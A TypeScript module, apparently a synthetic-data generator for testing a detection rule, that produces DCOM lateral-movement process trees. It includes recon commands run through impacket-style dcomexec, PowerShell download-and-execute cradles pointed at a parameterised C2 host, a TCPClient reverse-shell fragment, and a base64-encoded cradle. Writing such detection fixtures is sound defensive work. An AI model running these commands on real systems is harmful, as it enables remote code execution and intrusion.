import { DLLHOST_CLSIDS, IMG, respelled } from './catalog';
import type { Image } from './model';
import type { Rng } from './prng';

/** A DCOM server and what an operator runs through it. */
export interface AttackShape {
  readonly server: { readonly image: Image; readonly cmd: string };
  readonly children: readonly { readonly image: Image; readonly cmd: string }[];
}

export type AttackFlavor = 'mmc20' | 'excel' | 'shellbrowserwindow' | 'outlook';

export const ATTACK_FLAVORS: readonly AttackFlavor[] = ['mmc20', 'excel', 'shellbrowserwindow', 'outlook'];

/**
 * The DCOM lateral-movement techniques the rule is meant to catch, with the command lines their
 * public tooling produces (impacket dcomexec's `1> \\127.0.0.1\ADMIN$\__<time> 2>&1`, Excel
 * automation, ShellBrowserWindow through a DcomLaunch-started `explorer.exe /factory,...`).
 */
export function attackShape(flavor: AttackFlavor, rng: Rng, c2: string): AttackShape {
  const out = `\\\\127.0.0.1\\ADMIN$\\__${1714500000 + rng.int(200000)}.${rng.range(1000, 9999)}`;
  switch (flavor) {
    case 'mmc20':
      return {
        server: { image: IMG.mmc, cmd: '"C:\\Windows\\system32\\mmc.exe" -Embedding' },
        children: [
          { image: IMG.cmd, cmd: `cmd.exe /Q /c cd \\ 1> ${out} 2>&1` },
          {
            image: IMG.cmd,
            cmd: rng.pick([
              `cmd.exe /Q /c whoami /all 1> ${out} 2>&1`,
              `cmd.exe /Q /c net group "Domain Admins" /domain 1> ${out} 2>&1`,
              `cmd.exe /Q /c tasklist /v /fo csv 1> ${out} 2>&1`,
            ]),
          },
        ],
      };
    case 'excel':
      return {
        server: { image: IMG.excel, cmd: `"${IMG.excel.path}" /automation -Embedding` },
        children: [
          {
            image: IMG.cmd,
            cmd: `"C:\\Windows\\System32\\cmd.exe" /c powershell -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://${c2}:8080/s.ps1')"`,
          },
          {
            image: IMG.powershell,
            // A real multi-line command line: the LF must survive CSV quoting.
            cmd: `powershell.exe -nop -c "$c=New-Object Net.Sockets.TCPClient('${c2}',443);$s=$c.GetStream()\n[byte[]]$b=0..65535|%{0}"`,
          },
        ],
      };
    case 'shellbrowserwindow':
      return {
        server: {
          image: IMG.explorer,
          cmd: 'C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding',
        },
        children: [
          {
            image: IMG.cmd,
            cmd: '"C:\\Windows\\System32\\cmd.exe" /c "echo %COMPUTERNAME%,%USERNAME% > C:\\Windows\\Temp\\sbw.txt"',
          },
        ],
      };
    case 'outlook':
      return {
        server: { image: IMG.outlook, cmd: `"${IMG.outlook.path}" -Embedding` },
        children: [
          {
            image: IMG.powershell,
            cmd: `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -ep bypass -enc ${btoaAscii(`IEX (New-Object Net.WebClient).DownloadString('http://${c2}/o.ps1')`)}`,
          },
        ],
      };
  }
}

/** PowerShell's -enc takes base64 of UTF-16LE. */
function btoaAscii(text: string): string {
  const bytes: number[] = [];
  for (let i = 0; i < text.length; i++) bytes.push(text.charCodeAt(i) & 0xff, 0);
  return Buffer.from(bytes).toString('base64');
}

export const CSC_CHILD = {
  image: IMG.csc,
  cmd: '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\TEMP\\qx3fzq1d\\qx3fzq1d.cmdline"',
};

export function dllhostCmd(rng: Rng, spelled = 'DllHost.exe'): string {
  return `C:\\Windows\\system32\\${spelled} /Processid:${rng.pick(DLLHOST_CLSIDS)}`;
}

export const DLLHOST_UPPER = respelled(IMG.dllhost, 'DLLHOST.EXE');
